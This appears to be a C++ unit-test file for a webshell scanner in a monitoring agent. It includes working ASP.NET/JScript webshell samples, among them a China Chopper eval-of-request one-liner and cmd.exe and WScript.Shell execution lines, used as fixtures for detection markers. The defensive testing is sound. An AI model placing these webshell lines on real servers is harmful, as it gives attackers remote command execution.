#include "agent/sources/fim/webshell_scanner.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tripline::agent {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAre;

std::vector<std::string> Scan(const std::string& text) {
  WebshellScanner s;
  s.Feed(text);
  return s.Markers();
}

TEST(WebshellScannerTest, OabChinaChopperOneLiner) {
  // The ExternalUrl the HELSE incident wrote into an OAB .aspx (hafnium-detection.md §1).
  std::string oab =
      "ExternalUrl    : http://f/<script language=\"JScript\" runat=\"server\">function "
      "Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>";
  EXPECT_THAT(Scan(oab), UnorderedElementsAre("chopper_eval_request", "jscript_runat_server_eval"));
}

TEST(WebshellScannerTest, CaseInsensitiveRequestItemVariant) {
  std::string shell = "<%@ Page Language=\"Jscript\"%><%EVAL(REQUEST.ITEM[\"z\"],\"UNSAFE\");%>";
  EXPECT_THAT(Scan(shell),
              UnorderedElementsAre("chopper_eval_request_item", "chopper_request_item_unsafe"));
}

TEST(WebshellScannerTest, ReflectionBase64AndProcessMarkers) {
  std::string shell =
      "System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form[\"k\"]));\n"
      "var psi = new ProcessStartInfo(); psi.FileName = \"cmd.exe\"; Process.Start(psi);\n"
      "Response.Write(new ActiveXObject(\"WScript.Shell\").Exec(c).StdOut.ReadAll());";
  EXPECT_THAT(Scan(shell),
              UnorderedElementsAre("reflection_assembly_load", "frombase64_request",
                                   "processstartinfo_cmd", "activex_wscript_shell_write",
                                   "wscript_shell", "process_start"));
}

TEST(WebshellScannerTest, TwoFragmentMarkerNeedsBoth) {
  EXPECT_THAT(Scan("ProcessStartInfo psi; // runs notepad"), IsEmpty());
  EXPECT_THAT(Scan("Request.Item[\"a\"] only"), IsEmpty());
  EXPECT_THAT(Scan("<script language=\"JScript\" runat=\"server\">function f(){}</script>"),
              IsEmpty());
}

TEST(WebshellScannerTest, BenignOwaPageHasNoMarkers) {
  std::string logon =
      "<%@ Page Language=\"C#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.Http."
      "Auth.Logon\" %>\n<script type=\"text/javascript\">function clkLgn(){ document.forms[0]."
      "submit(); }</script><input type=\"text\" id=\"username\" name=\"username\">";
  EXPECT_THAT(Scan(logon), IsEmpty());
}

TEST(WebshellScannerTest, MarkerSplitAcrossChunksIsFound) {
  std::string text = std::string(1000, 'x') + "eval(Request.Item[\"p\"])";
  for (size_t cut = 1000; cut < text.size(); ++cut) {
    WebshellScanner s;
    s.Feed(std::string_view(text).substr(0, cut));
    s.Feed(std::string_view(text).substr(cut));
    EXPECT_THAT(s.Markers(), ElementsAre("chopper_eval_request_item")) << "cut at " << cut;
  }
}

TEST(WebshellScannerTest, OverlappingPrefixesDoNotHideAMatch) {
  // "eval(eval(request[" must still match after the automaton fell back from a partial match.
  EXPECT_THAT(Scan("eval(eval(request[\"x\"])"), ElementsAre("chopper_eval_request"));
  EXPECT_THAT(Scan("wscript.wscript.shell"), ElementsAre("wscript_shell"));
}

TEST(WebshellScannerTest, ScriptExtensions) {
  for (const char* ext : {"aspx", "ashx", "asmx", "asp", "js", "php", "jsp"}) {
    EXPECT_TRUE(IsScriptExtension(ext)) << ext;
  }
  for (const char* ext : {"config", "dll", "txt", "", "ASPX"}) {
    EXPECT_FALSE(IsScriptExtension(ext)) << ext;
  }
}

}  // namespace
}  // namespace tripline::agent
